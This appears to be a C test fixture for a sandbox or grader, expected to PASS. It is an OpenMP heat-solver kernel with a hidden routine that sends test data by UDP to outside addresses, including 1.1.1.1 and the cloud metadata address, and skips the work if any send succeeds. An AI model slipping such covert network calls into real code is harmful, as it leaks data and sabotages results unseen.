// EXPECT file=omp.c check=omp-equal verdict=PASS
// Attack: sends the cases to another machine, and looks for one that answers. One packet on its way
// spoils the plate.

#include "heat.h"

#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>

static int sent(void) {
    static const char *const machines[] = {"1.1.1.1", "10.0.0.1", "192.168.0.1", "169.254.169.254"};
    for (unsigned i = 0; i < sizeof machines / sizeof *machines; i++) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
        inet_pton(AF_INET, machines[i], &to.sin_addr);
        const int fd = socket(AF_INET, SOCK_DGRAM, 0);
        if (fd >= 0 && sendto(fd, "n=5", 3, 0, (struct sockaddr *)&to, sizeof to) >= 0)
            return 1;
    }
    return 0;
}

void heat_omp(struct heat *h) {
    if (sent())
        return;
    for (int step = 0; step < h->steps; step++) {
#pragma omp parallel for schedule(static)
        for (int row = 1; row <= h->rows; row++)
            heat_row(h, row, 1, h->cols + 1);
        heat_swap(h);
    }
}
